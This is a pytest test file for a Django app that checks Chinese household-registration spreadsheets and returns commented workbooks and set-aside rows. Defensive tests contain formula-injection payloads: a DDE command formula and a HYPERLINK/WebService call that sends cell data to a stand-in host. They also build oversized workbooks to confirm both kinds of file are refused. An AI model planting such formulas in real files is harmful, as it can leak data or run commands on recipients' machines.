"""What comes back of a file that was checked: its own cells with comments, and the rows set aside, to be sent again."""

from __future__ import annotations

import datetime as dt
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from django.test import Client
from openpyxl.comments import Comment
from openpyxl.styles import Font
from python_calamine import CalamineWorkbook

from tests.cast import Cast
from tests.intake.conftest import id_number
from tests.intake.paper import Paper
from tests.intake.saved import as_xls, as_xlsx
from tests.intake.test_loads import GUO, NEW, household
from tests.intake.test_reports import comments_of

if TYPE_CHECKING:
    from jiahe.trust.acting import Acting

OLD = id_number(dt.date(1931, 2, 3), "male", 14)


@pytest.fixture
def acting(posts: dict[str, Acting], cast: Cast) -> Iterator[Cast]:
    """Act as the steward."""
    from jiahe.trust.acting import acting_as

    with acting_as(posts["steward"]):
        yield cast


def test_faulty_rows_come_back_can_be_mended_and_are_loaded(
    acting: Cast, take: Callable[..., Any], tmp_path: Path
) -> None:
    from jiahe.intake import reporting
    from jiahe.people.models import Person

    load = take(
        "household_registration",
        [
            household(姓名="周新", 身份证号=NEW, 户籍地="清溪镇柳林村3组"),
            household(姓名="周旧", 身份证号="1.10101E+17", 户籍地="柳琳村"),
        ],
    )
    assert (load.loaded, load.aside) == (1, 1)
    assert Person.objects.get(name="周新").village_group == 3
    reporting.write_commented(load, tmp_path / "commented.xlsx")
    comments = comments_of(tmp_path / "commented.xlsx")
    assert sorted(comments) == ["B3", "E3"]
    assert "是不是清溪镇柳林村？" in comments["E3"]
    reporting.write_set_aside(load, tmp_path / "aside.xlsx")
    head, row = CalamineWorkbook.from_path(tmp_path / "aside.xlsx").get_sheet_by_index(0).to_python()
    assert row[:2] == ["周旧", "1.10101E+17"]
    mended = dict(zip(map(str, head), map(str, row), strict=False))
    again = take("household_registration", [mended | {"身份证号": OLD, "户籍地": "清溪镇柳林村"}])
    assert (again.loaded, again.aside) == (1, 0)
    assert Person.objects.get(name="周旧").hukou_place == "420890100201"


def test_a_remedy_for_one_cell_is_not_said_of_all_of_its_rule(acting: Cast, take: Callable[..., Any]) -> None:
    from jiahe.intake.cells import FAULTS

    rows = [household(姓名="周新", 户籍地="柳琳村"), household(姓名="周旧", 户籍地="石敦村")]
    load = take("household_registration", rows, until="checked")
    assert load.faults["place_unknown"]["remedy_zh"] == FAULTS["place_unknown"].remedy.zh
    said = [fault.said["zh"] for fault in load.row_faults.filter(rule="place_unknown").order_by("number")]
    assert ["柳林村" in said[0], "石墩村" in said[1]] == [True, True]


def test_a_sum_is_taken_in_the_unit_that_the_file_states(acting: Cast, take: Callable[..., Any]) -> None:
    from jiahe.people.models import Payment, Person
    from jiahe.trust.sealing import blind_index, seal

    Person.objects.filter(id=acting.father).update(
        id_sealed=seal(GUO, "id_number"), id_index=blind_index(GUO, "id_number")
    )
    head = "单位：万元\n姓名,身份证号,项目,年度,金额,发放日期\n"
    load = take("payments", f"{head}李国强,{GUO},育儿补贴,2025,0.36,2025-10-31\n".encode("gb18030"))
    assert load.loaded == 1, set(load.row_faults.values_list("rule", flat=True))
    assert Payment.objects.get().amount == 360000


def test_the_rows_with_a_fault_are_taken_along_with_what_was_checked(
    steward: Client, take: Callable[..., Any], cast: Cast, posts: dict[str, Acting]
) -> None:
    from jiahe.trust.acting import acting_as

    with acting_as(posts["steward"]):
        load = take("household_registration", [household(姓名="周新", 户籍地="柳琳村")], until="checked")
    answer = steward.get(f"/intake/{load.id}/faults/place_unknown/?export=csv")
    said, heads, row = b"".join(answer.streaming_content).decode("utf-8-sig").splitlines()
    assert f"依据：文件《{load.file_name}》" in said
    assert "制表：" in said
    assert heads == "行号,工作表,单元格,说明"
    assert "柳琳村" in row


@pytest.mark.parametrize("write", [as_xlsx, as_xls])
def test_days_counted_from_1904_come_back_as_the_same_days(
    acting: Cast, take: Callable[..., Any], tmp_path: Path, write: Callable[..., bytes]
) -> None:
    from jiahe.intake import reporting
    from jiahe.intake.reading.package import counts_from_1904
    from jiahe.people.models import Person

    born = dt.date(1931, 2, 3)
    paper = Paper("households")
    paper.lines = [
        ["姓名", "身份证号", "出生日期", "户籍地"],
        ["周旧", "1.10101E+17", (born - dt.date(1904, 1, 1)).days, "柳林村"],
        ["周新", NEW, (dt.date(2001, 2, 3) - dt.date(1904, 1, 1)).days, "柳林村"],
    ]
    load = take("household_registration", write(paper, date_1904=True))
    assert (load.loaded, load.aside) == (1, 1)
    for write_report in (reporting.write_commented, reporting.write_set_aside):
        write_report(load, tmp_path / "out.xlsx")
        written = CalamineWorkbook.from_path(tmp_path / "out.xlsx")
        row = written.get_sheet_by_name(written.sheet_names[-1]).to_python()[1]
        days = (row[2], counts_from_1904(tmp_path / "out.xlsx"))
        assert days in ((born, False), ((born - dt.date(1904, 1, 1)).days, True))
    again = Paper("households")
    again.lines = CalamineWorkbook.from_path(tmp_path / "out.xlsx").get_sheet_by_index(0).to_python()
    again.lines = [[OLD if cell == "1.10101E+17" else cell or None for cell in line] for line in again.lines]
    mended = take("household_registration", as_xlsx(again))
    assert (mended.loaded, mended.aside) == (1, 0), set(mended.row_faults.values_list("rule", flat=True))
    assert Person.objects.get(name="周旧").birth_date == born


def workbook(path: Path) -> bytes:
    """A file as an office makes it: a title over merged cells, a second sheet, widths, formats, a formula, a note."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "名册"
    sheet.merge_cells("A1:E1")
    sheet["A1"] = "2025年户籍人口登记表"
    sheet["A1"].font = Font(bold=True, size=18)
    sheet.append(["姓名", "公民身份号码", "性别", "户籍地", "备注"])
    sheet.append(["周新", NEW, "男", "柳林村", "迁入"])
    sheet.append(["周旧", "1.10101E+17", "男性別", "二孩镇", "=1+1"])
    sheet.append(["周又", OLD, "男", None, None])
    sheet.merge_cells("D4:D5")
    sheet["E4"].data_type = "s"
    sheet["E5"] = "=SUM(1,2)"
    sheet["B4"].comment = Comment("派出所已核", "派出所")
    sheet.column_dimensions["B"].width = 31
    book.create_sheet("说明")["B2"] = "填表说明"
    book.save(path)
    return path.read_bytes()


def test_a_workbook_comes_back_as_it_was_sent_with_comments_where_it_is_wrong(
    acting: Cast, take: Callable[..., Any], tmp_path: Path, steward_account: Any, posts: dict[str, Acting]
) -> None:
    from jiahe.intake import checking, reporting
    from jiahe.intake.mending.actions import mend

    load = take("household_registration", workbook(tmp_path / "in.xlsx"), until="checked", name="名册.xlsx")
    assert (load.read, load.aside) == (3, 2)
    mend(key=load.id, used={("sex", "男性別"): "男"}, remember=False, account=steward_account.id)
    load.refresh_from_db()
    checking.check(load, posts["steward"])
    load.refresh_from_db()
    reporting.write_commented(load, tmp_path / "out.xlsx")

    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames[1:] == ["名册", "说明"]
    sheet = book["名册"]
    assert (sheet["A1"].value, sheet["A1"].font.size, sheet.column_dimensions["B"].width) == (
        "2025年户籍人口登记表", 18, 31,
    )  # fmt: skip
    assert {str(one) for one in sheet.merged_cells.ranges} == {"A1:E1", "D4:D5"}
    assert book["说明"]["B2"].value == "填表说明"
    assert (sheet["E4"].data_type, sheet["E5"].data_type) == ("s", "f"), "a text is no formula; a formula stays one"
    said = {cell.coordinate: cell.comment.text for row in sheet for cell in row if cell.comment}
    assert sorted(said) == ["B4", "C4", "D4"], (
        "what is wrong with the covered cell D5 is said at the cell that shows it"
    )
    assert said["B4"].startswith("派出所已核\n")
    assert "“男性別”" in said["C4"]
    assert (sheet["B4"].fill.start_color.rgb, sheet["C4"].fill.start_color.rgb) == ("00FFD9D9", "00DDF0DD")
    front = [[cell.value for cell in row] for row in book.worksheets[0]]
    assert ["名册", "性别"] in [row[:2] for row in front]

    reporting.write_set_aside(load, tmp_path / "aside.xlsx")
    _, row, _ = CalamineWorkbook.from_path(tmp_path / "aside.xlsx").get_sheet_by_index(0).to_python()
    assert row[2] == "男", "what was mended once need not be mended again"
    assert "文件写的是“男性別”" in row[5]


def test_a_workbook_that_is_too_large_to_keep_is_refused(tmp_path: Path) -> None:
    from jiahe.intake.reports import CannotBeKept, write_into

    workbook(tmp_path / "in.xlsx")
    with pytest.raises(CannotBeKept):
        write_into(tmp_path / "in.xlsx", [], [], tmp_path / "out.xlsx", most_unpacked=1000)
    wide = openpyxl.Workbook()
    wide.active.merged_cells.add("A1:XFD1048576")
    wide.save(tmp_path / "wide.xlsx")
    with pytest.raises(CannotBeKept):
        write_into(tmp_path / "wide.xlsx", [], [], tmp_path / "out.xlsx")
    assert not (tmp_path / "out.xlsx").exists()


def _replaced(workbook: Path, part: str, old: bytes, new: bytes, *, name: str = "", encoding: str = "utf-8") -> Path:
    """Write a workbook with one part changed, and perhaps named and encoded otherwise."""
    changed = workbook.with_name("changed.xlsx")
    with zipfile.ZipFile(workbook) as before, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as after:
        for one in before.namelist():
            content = before.read(one)
            if one == part:
                assert old in content
                content = content.replace(old, new).decode().encode(encoding)
            after.writestr(name if name and one == part else one, content)
    return changed


_SHEET, _AREA = "xl/worksheets/sheet1.xml", b"A1:XFD1048576"


@pytest.mark.parametrize(
    ("old", "new", "other"),
    [
        (b'"A1:XFD1048576"', b"'A1:XFD1048576'", {}),
        (_AREA, b"$A$1:$XFD$1048576", {}),
        (_AREA, b"a1:xfd1048576", {}),
        (_AREA, b"no area", {}),
        (_AREA, _AREA, {"encoding": "utf-16"}),
        (_AREA, _AREA, {"name": "xl/media/image1.png"}),
        (b"<sheetData", b"<sheetData><row>" + b"<c/>" * 1_000_001 + b"</row></sheetData><sheetData", {}),
    ],
    ids=["quotes", "dollars", "small letters", "unreadable", "UTF-16", "elsewhere", "empty cells"],
)
def test_no_other_way_of_writing_a_large_workbook_gets_past(
    tmp_path: Path, old: bytes, new: bytes, other: dict[str, str]
) -> None:
    from jiahe.intake.reports import CannotBeKept
    from jiahe.intake.reports.original import MOST_UNPACKED, _refuse_large

    wide = openpyxl.Workbook()
    wide.active.merged_cells.add("A1:B2" if b"<c/>" in new else _AREA.decode())
    wide.save(tmp_path / "wide.xlsx")
    with pytest.raises((CannotBeKept, ValueError)):
        _refuse_large(_replaced(tmp_path / "wide.xlsx", _SHEET, old, new, **other), MOST_UNPACKED)


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://a.example/"&A1)',
        "=cmd|'/c calc'!A0",
        "=[1]Sheet1!A1",
        '=_xlfn.WebService("http://a.example")',
    ],
)
def test_a_workbook_that_reaches_out_is_written_anew(tmp_path: Path, formula: str) -> None:
    from jiahe.intake.reports import CannotBeKept, write_into

    book = openpyxl.Workbook()
    book.active["A1"] = "=SUM(1,2)"
    book.save(tmp_path / "in.xlsx")
    write_into(tmp_path / "in.xlsx", [], [], tmp_path / "out.xlsx")
    book.active["A2"] = formula
    book.save(tmp_path / "in.xlsx")
    with pytest.raises(CannotBeKept):
        write_into(tmp_path / "in.xlsx", [], [], tmp_path / "out.xlsx")


def test_a_workbook_with_links_to_others_is_written_anew(tmp_path: Path) -> None:
    from jiahe.intake.reports import CannotBeKept, write_into

    openpyxl.Workbook().save(tmp_path / "in.xlsx")
    with zipfile.ZipFile(tmp_path / "in.xlsx", "a") as package:
        package.writestr("xl/externalLinks/externalLink1.xml", b"<externalLink/>")
    with pytest.raises(CannotBeKept):
        write_into(tmp_path / "in.xlsx", [], [], tmp_path / "out.xlsx")


def test_a_workbook_that_openpyxl_cannot_read_is_written_anew(
    acting: Cast, take: Callable[..., Any], tmp_path: Path
) -> None:
    from jiahe.intake import reporting

    workbook(tmp_path / "in.xlsx")
    with zipfile.ZipFile(tmp_path / "in.xlsx") as old, zipfile.ZipFile(tmp_path / "odd.xlsx", "w") as odd:
        for name in old.namelist():
            odd.writestr(name, b"<broken" if name == "docProps/core.xml" else old.read(name))
    odd_bytes = (tmp_path / "odd.xlsx").read_bytes()
    load = take("household_registration", odd_bytes, until="checked", name="名册.xlsx")
    reporting.write_commented(load, tmp_path / "out.xlsx")
    assert "D4" in comments_of(tmp_path / "out.xlsx")
